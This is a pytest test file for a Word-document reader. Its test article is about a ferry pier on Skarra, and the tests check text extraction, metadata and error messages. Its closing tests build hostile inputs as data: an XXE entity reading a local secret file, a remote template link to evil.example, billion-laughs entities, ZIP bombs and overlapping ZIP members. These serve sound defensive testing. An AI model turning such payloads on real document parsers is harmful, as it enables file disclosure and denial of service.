"""What a Word document must become: the text that its readers see, and one clear line where it is none."""

import io
import re
import shutil
import struct
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from indexes.article import Article
from indexes.errors import ReadError
from indexes.readers import read, read_bytes

PARAGRAPHS = [
    "The ferry to Skarra sails again on Monday, nine months after a winter storm broke its pier in two.",
    "“We have missed the noise of it,” said Ada Pell, who keeps the shop above the harbour.",
    "The council paid 4.2 million crowns for the new pier, twice what it had planned.",
]


def saved(document: Any) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def plain(*paragraphs: str) -> Any:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return document


def article(content: Any, name: str = "ferry.docx") -> Article:
    return read_bytes(name, content if isinstance(content, bytes) else saved(content))


def body(found: Article) -> list[str]:
    return [paragraph.text for paragraph in found.body]


def kinds(found: Article) -> list[tuple[str, str]]:
    return [(paragraph.kind, paragraph.text) for paragraph in found.paragraphs]


def with_markup(*paragraphs: str) -> Any:
    """Return a document that has these paragraphs, as Word's markup."""
    document = docx.Document()
    for markup in paragraphs:
        declared = markup.replace("<w:p>", f"<w:p {nsdecls('w', 'wp')}>", 1)
        document.element.body.insert(len(document.element.body) - 1, parse_xml(declared))
    return document


def changed(data: bytes, **members: bytes) -> bytes:
    """Return a package in which some members are others; a name's slash is written as two underlines."""
    target = io.BytesIO()
    new = {name.replace("__", "/"): content for name, content in members.items()}
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name in {**dict.fromkeys(old.namelist()), **new}:
            file.writestr(name, new[name] if name in new else old.read(name))
    return target.getvalue()


# --- text -------------------------------------------------------------------------------------------------------------


def test_styles_say_what_a_paragraph_is() -> None:
    document = docx.Document()
    document.add_paragraph("The ferry is back", style="Title")
    document.add_paragraph("Skarra has its pier again after nine months", style="Subtitle")
    document.add_paragraph("By Jane Doe")
    document.add_paragraph(PARAGRAPHS[0])
    document.add_paragraph("The ferry on Sunday", style="Caption")
    document.add_paragraph(PARAGRAPHS[1])
    document.add_heading("What it cost", level=2)
    document.add_paragraph("Steel: two million", style="List Bullet")
    document.add_paragraph("Labour: two million", style="List Number")
    document.add_paragraph("It will last", style="Quote")
    document.add_paragraph("No answer came")
    assert kinds(article(document)) == [
        ("title", "The ferry is back"),
        ("heading", "Skarra has its pier again after nine months"),
        ("byline", "By Jane Doe"),
        ("body", PARAGRAPHS[0]),
        ("caption", "The ferry on Sunday"),
        ("body", PARAGRAPHS[1]),
        ("heading", "What it cost"),
        ("body", "Steel: two million"),
        ("body", "Labour: two million"),
        ("body", "It will last"),
        ("body", "No answer came"),
    ]


def test_a_document_without_styles_reads_like_text() -> None:
    lines = ["The ferry is back", "By Jane Doe", *PARAGRAPHS, "What happens next", "The council meets in June."]
    assert kinds(article(plain(*lines))) == kinds(read_bytes("ferry.txt", "\n\n".join(lines).encode()))


def test_a_style_of_ones_own_is_what_it_is_based_on() -> None:
    document = docx.Document()
    own = document.styles.add_style("Zwischentitel", docx.enum.style.WD_STYLE_TYPE.PARAGRAPH)
    own.base_style = document.styles["Heading 3"]
    document.add_paragraph("The ferry is back", style="Title")
    document.add_paragraph(PARAGRAPHS[0])
    document.add_paragraph("Wer bezahlt das alles?", style="Zwischentitel")
    document.add_paragraph(PARAGRAPHS[2])
    assert kinds(article(document))[2] == ("heading", "Wer bezahlt das alles?")


def test_a_bold_line_among_styled_headings_may_be_a_heading() -> None:
    document = docx.Document()
    document.add_heading("The ferry is back", level=1)
    document.add_paragraph(PARAGRAPHS[0])
    document.add_paragraph().add_run("What it cost").bold = True
    document.add_paragraph(PARAGRAPHS[2])
    assert ("heading", "What it cost") in kinds(article(document))


def test_the_rows_of_a_table_are_captions_at_their_place() -> None:
    document = plain(*PARAGRAPHS[:2])
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip(table._cells, ["Year", "Passengers", "2024", "91,000"], strict=True):
        cell.text = text
    document.add_paragraph(PARAGRAPHS[2])
    assert kinds(article(document))[-3:] == [
        ("caption", "Year | Passengers"),
        ("caption", "2024 | 91,000"),
        ("body", PARAGRAPHS[2]),
    ]


def test_an_article_that_is_laid_out_in_a_table_is_an_article() -> None:
    document = docx.Document()
    cell = document.add_table(rows=1, cols=2).cell(0, 1)
    for text in PARAGRAPHS:
        cell.add_paragraph(text)
    assert body(article(document)) == PARAGRAPHS


def test_a_line_break_is_a_space_two_are_a_new_paragraph_and_a_byline_stands_alone() -> None:
    document = plain("The ferry is back", PARAGRAPHS[0])
    document.add_paragraph("By Jane Doe\nThe pier is new.\nSo is the ramp.\n\nThe shop is old.")
    assert kinds(article(document))[2:] == [
        ("byline", "By Jane Doe"),
        ("body", "The pier is new. So is the ramp."),
        ("body", "The shop is old."),
    ]


def test_tracked_changes_read_as_if_they_were_accepted() -> None:
    document = with_markup(
        "<w:p><w:r><w:t xml:space='preserve'>The ferry sails on </w:t></w:r>"
        "<w:del w:id='1' w:author='x'><w:r><w:delText>Sunday</w:delText></w:r></w:del>"
        "<w:ins w:id='2' w:author='x'><w:r><w:t>Monday</w:t></w:r></w:ins>"
        "<w:moveFrom w:id='3' w:author='x'><w:r><w:t> from the old pier</w:t></w:r></w:moveFrom>"
        "<w:r><w:t xml:space='preserve"
        "'> after nine </w:t></w:r><w:r><w:t>months.</w:t></w:r></w:p>",
        "<w:p><w:pPr><w:rPr><w:del w:id='4' w:author='x'/></w:rPr></w:pPr>"
        "<w:r><w:t xml:space='preserve'>The council </w:t></w:r></w:p>",
        "<w:p><w:r><w:t>paid for it.</w:t></w:r></w:p>",
    )
    assert body(article(document)) == ["The ferry sails on Monday after nine months.", "The council paid for it."]


def test_the_words_of_links_fields_and_forms_stay_and_what_is_hidden_goes() -> None:
    document = with_markup(
        "<w:p><w:r><w:t xml:space='preserve'>The </w:t></w:r>"
        "<w:hyperlink w:anchor='x'><w:r><w:t>new pier</w:t></w:r></w:hyperlink>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t> (check this!)</w:t></w:r>"
        "<w:r><w:t xml:space='preserve'> cost </w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        "<w:r><w:instrText> FORMULA 2+2 </w:instrText></w:r><w:r><w:t>2+2</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>4</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:t xml:space='preserve'> </w:t></w:r>"
        "<w:smartTag><w:r><w:t>mil</w:t><w:softHyphen/><w:t>lion</w:t></w:r></w:smartTag>"
        "<w:sdt><w:sdtPr/><w:sdtContent><w:r><w:tab/><w:t>crowns</w:t></w:r></w:sdtContent></w:sdt>"
        "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr>"
        "<w:sdtContent><w:r><w:t>Enter text</w:t></w:r></w:sdtContent></w:sdt>"
        "<w:r><w:footnoteReference w:id='2'/><w:t>.</w:t></w:r></w:p>"
    )
    assert body(article(document)) == ["The new pier cost 4 million crowns."]


def test_a_contents_list_headers_footers_and_comments_are_not_the_article() -> None:
    document = plain(*PARAGRAPHS)
    document.sections[0].header.paragraphs[0].text = "The Skarra Post, internal use only."
    document.sections[0].footer.paragraphs[0].text = "Page 1 of 1."
    if hasattr(document, "add_comment"):
        document.add_comment(document.paragraphs[0].runs, text="Is that so?", author="Desk")
    contents = document.styles.add_style("toc 1", docx.enum.style.WD_STYLE_TYPE.PARAGRAPH)
    document.paragraphs[0].insert_paragraph_before("What it cost\t4", style=contents)
    assert body(article(document)) == PARAGRAPHS


def test_a_text_box_follows_its_paragraph_once() -> None:
    box = "<w:txbxContent><w:p><w:r><w:t>The shop opens at six.</w:t></w:r></w:p></w:txbxContent>"
    mc = "xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'"
    shape = "xmlns:wps='http://schemas.microsoft.com/office/word/2010/wordprocessingShape'"
    document = with_markup(
        f"<w:p><w:r><w:t>The ferry is back.</w:t></w:r><w:r><mc:AlternateContent {mc}>"
        f"<mc:Choice Requires='wps' {shape}><w:drawing><wp:anchor><wps:wsp><wps:txbx>{box}</wps:txbx></wps:wsp>"
        "</wp:anchor></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict>{box}</w:pict></mc:Fallback></mc:AlternateContent></w:r>"
        "<w:r><w:t xml:space='preserve'> So is the pier.</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>The council paid.</w:t></w:r></w:p>",
    )
    assert body(article(document)) == [
        "The ferry is back. So is the pier.",
        "The shop opens at six.",
        "The council paid.",
    ]


# --- what it says about the article -----------------------------------------------------------------------------------


def test_head_lines_give_what_they_give_in_text() -> None:
    document = plain("The ferry is back", "Date: 4 March 2025\nBy: Jane Doe", "Source: The Skarra Post", *PARAGRAPHS)
    found = article(document)
    assert (found.title, found.published, found.authors) == ("The ferry is back", date(2025, 3, 4), ("Jane Doe",))
    assert (found.publisher, body(found)) == ("The Skarra Post", PARAGRAPHS)


def test_properties_complete_what_the_text_does_not_say() -> None:
    document = plain(*PARAGRAPHS)
    properties = document.core_properties
    properties.title, properties.author, properties.language = "The ferry is back", "Jane Doe; John Roe", "en-GB"
    found = article(document)
    assert (found.title, found.authors, found.language) == ("The ferry is back", ("Jane Doe", "John Roe"), "en-GB")
    assert found.published is None  # neither created nor modified is published


def test_what_the_text_shows_wins_over_leftovers_in_the_properties() -> None:
    document = plain("The ferry is back", "By Jane Doe", *PARAGRAPHS)
    document.core_properties.title, document.core_properties.author = "Minutes of the council", "John Roe"
    found = article(document)
    assert (found.title, found.authors) == ("The ferry is back", ("Jane Doe",))


@pytest.mark.parametrize("title", ["Document1", "Microsoft Word - ferry_v3.doc", "ferry final.docx", "Word Document"])
@pytest.mark.parametrize("author", ["python-docx", "Microsoft Office User", "jdoe2", "News Desk"])
def test_what_programs_write_into_the_properties_is_nothing(title: str, author: str) -> None:
    document = plain(*PARAGRAPHS)
    document.core_properties.title, document.core_properties.author = title, author
    found = article(document)
    assert (found.title, found.authors) == ("ferry", ())


# --- other programs ---------------------------------------------------------------------------------------------------


@pytest.mark.skipif(not shutil.which("pandoc"), reason="pandoc is not installed")
def test_what_pandoc_writes_is_read(tmp_path: Path) -> None:
    (tmp_path / "ferry.md").write_text(
        "---\ntitle: The ferry is back\nsubtitle: Skarra has its pier again\n"
        "author: Jane Doe\ndate: 4 March 2025\n---\n\n"
        f"{PARAGRAPHS[0]}[^1]\n\n## What it cost\n\n{PARAGRAPHS[1]} [The deal]{{.insertion author=x}}"
        "[A plan]{.deletion author=x} held.\n\n- Steel\n- Labour, which is [dear](https://a.example)\n\n"
        f"| Year | Cars |\n|---|---|\n| 2024 | 10 |\n\n{PARAGRAPHS[2]}\n\n[^1]: The council says so.\n"
    )
    subprocess.run(["pandoc", "ferry.md", "-o", "ferry.docx"], cwd=tmp_path, check=True)
    found = read(tmp_path / "ferry.docx")
    assert (found.title, found.authors, found.published) == ("The ferry is back", ("Jane Doe",), date(2025, 3, 4))
    assert body(found) == [
        PARAGRAPHS[0],
        f"{PARAGRAPHS[1]} The deal held.",
        "Steel",
        "Labour, which is dear",
        PARAGRAPHS[2],
    ]
    assert [p.text for p in found.paragraphs if p.kind == "caption"] == ["Year | Cars", "2024 | 10"]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_what_libreoffice_writes_is_read(tmp_path: Path) -> None:
    lines = "".join(f"<p>{text}</p>" for text in PARAGRAPHS)
    page = f"<meta charset=utf-8><h1>The ferry is back</h1>{lines}<h2>Who pays</h2><p>Nobody <b>knows</b>.</p>"
    (tmp_path / "ferry.html").write_text(f"<html>{page}</html>")
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--writer"]
    filter_ = ["--convert-to", "docx:MS Word 2007 XML", "ferry.html"]
    subprocess.run([*command, *filter_], cwd=tmp_path, check=True, capture_output=True, timeout=120)
    found = read(tmp_path / "ferry.docx")
    assert (found.title, body(found)) == ("The ferry is back", [*PARAGRAPHS, "Nobody knows."])
    assert ("heading", "Who pays") in kinds(found)


# --- bad input --------------------------------------------------------------------------------------------------------


def archive(**members: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name.replace("__", "/").replace("types", "[Content_Types].xml"), content)
    return file.getvalue()


GOOD = saved(plain(*PARAGRAPHS))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
with zipfile.ZipFile(io.BytesIO(GOOD)) as good:
    TYPES, DOCUMENT = good.read("[Content_Types].xml"), good.read("word/document.xml")


@pytest.mark.parametrize(
    ("content", "says", "hint"),
    [
        (b"\n", "empty", "Save"),
        (b"Only text.", "no Word document", r"\.docx"),
        (b"%PDF-1.7 x", "a PDF", "the ending of what it is"),
        (b"{\\rtf1 x}", "rich text", "the ending of what it is"),
        (OLE, "an old office document", r"save it as .*\.docx"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "locked with a password", "without one"),
        (archive(a=b"x"), "a ZIP archive but no Word document", r"\.zip"),
        (archive(types=b"<x/>", a=b"x"), "a ZIP archive but no Word", r"\.zip"),
        (archive(types=b"<x/>", **{"xl__workbook.xml": b"<x/>"}), "an Excel workbook", r"\.docx"),
        (archive(types=b"<x/>", **{"ppt__presentation.xml": b"<x/>"}), "a PowerPoint presentation", r"\.docx"),
        (archive(mimetype=b"x", **{"content.xml": b"<x/>"}), "an OpenDocument file", r"\.docx"),
        (GOOD[: len(GOOD) // 2], "cut off or damaged", "again"),
        (GOOD[:30], "cut off or damaged", "again"),
        (GOOD.replace(b"PK\x01\x02", b"PK\x01\x03"), "cut off or damaged", "again"),
        (changed(GOOD, **{"word__document.xml": DOCUMENT[:400]}), "cut off or damaged", "again"),
        (changed(GOOD, **{"word__document.xml": b"<x/>"}), "cut off or damaged", "again"),
        (changed(GOOD, **{"_rels__.rels": b"<x/>"}), "strict Open XML|cut off or damaged", "save|again"),
        (changed(GOOD, **{"[Content_Types].xml": TYPES.replace(MAIN, MACRO)}), "one with macros", r"\.docx"),
        (saved(docx.Document()), "no article text", "Check"),
    ],
)
def test_what_is_no_document_gets_one_clear_line(content: bytes, says: str, hint: str) -> None:
    with pytest.raises(ReadError, match=says) as caught:
        article(content)
    assert str(caught.value).startswith("ferry.docx: ")
    assert "\n" not in str(caught.value)
    assert re.search(hint, caught.value.hint)


def test_macros_and_embedded_files_are_not_even_unpacked() -> None:
    broken = changed(GOOD, **{"word__vbaProject.bin": b"macro" * 100, "word__embeddings__a.exe": b"MZ" * 100})
    at = broken.index(b"word/vbaProject.bin") + len("word/vbaProject.bin")
    assert body(article(broken[:at] + b"\xff" * 4 + broken[at + 4 :])) == PARAGRAPHS  # unpacking it would fail


def test_nothing_outside_is_read_or_fetched(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("secret")
    entity = f"<!DOCTYPE w:document [<!ENTITY s SYSTEM 'file://{tmp_path}/secret.txt'>]>".encode()
    text = DOCUMENT.replace(b"twice what", b"&s; twice what")
    text = text.replace(b"standalone='yes'?>", b"standalone='yes'?>" + entity).replace(b'"yes"?>', b'"yes"?>' + entity)
    assert entity in text
    relations = b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    relations += b"<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    relations += b"attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></Relationships>"
    found = article(changed(GOOD, **{"word__document.xml": text, "word___rels__document.xml.rels": relations}))
    assert body(found)[:2] == PARAGRAPHS[:2]
    assert "secret" not in "".join(body(found))


def test_entities_that_would_grow_beyond_measure_are_refused() -> None:
    laughs = "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12))
    text = f"<!DOCTYPE x [<!ENTITY a0 'laugh'>{laughs}]><x y='&a11;'>&a11;</x>".encode()
    for name in ("word__document.xml", "word__styles.xml", "docProps__core.xml", "[Content_Types].xml"):
        with pytest.raises(ReadError, match="cut off or damaged"):
            article(changed(GOOD, **{name: text}))


def test_elements_nested_without_end_are_refused() -> None:
    opening = DOCUMENT[: DOCUMENT.index(b"<w:body>") + 8]
    for tag in (b"<w:sdt>", b"<w:tbl><w:tr><w:tc>"):
        with pytest.raises(ReadError, match="cut off or damaged"):
            article(changed(GOOD, **{"word__document.xml": opening + tag * 50_000}))


def test_a_bomb_is_not_unpacked() -> None:
    spaces = DOCUMENT.replace(b"</w:body>", b" " * 30_000_000 + b"</w:body>")
    with pytest.raises(ReadError, match="ZIP bomb"):
        article(changed(GOOD, **{"word__document.xml": spaces}))
    many = changed(GOOD, **{f"word__a{i}.xml": b"<a/>" for i in range(20_001)})
    with pytest.raises(ReadError, match="too many members"):
        article(many)
    large = changed(GOOD, **{f"word__media__{i}.bin": bytes(60_000_000) for i in range(4)})
    with pytest.raises(ReadError, match=r"24\d MB when it is unpacked; at most 200 MB"):
        article(large)


def test_a_directory_that_lies_is_found_out() -> None:
    spaces = changed(GOOD, **{"word__document.xml": DOCUMENT.replace(b"</w:body>", b" " * 9_000_000 + b"</w:body>")})
    name = b"word/document.xml"
    at = spaces.rindex(name) - 46
    assert spaces[at : at + 4] == b"PK\x01\x02"
    lying = spaces[: at + 24] + struct.pack("<L", 4000) + spaces[at + 28 :]
    with pytest.raises(ReadError, match="cut off or damaged"):
        article(lying)


def test_members_that_share_their_bytes_are_refused() -> None:
    data = changed(GOOD, **{"word__a.xml": b"<a/>", "word__b.xml": b"<a/>"})
    first, second = (data.rindex(name) - 46 for name in (b"word/a.xml", b"word/b.xml"))
    shared = data[: second + 42] + data[first + 42 : first + 46] + data[second + 46 :]
    with pytest.raises(ReadError, match="lie over each other"):
        article(shared)
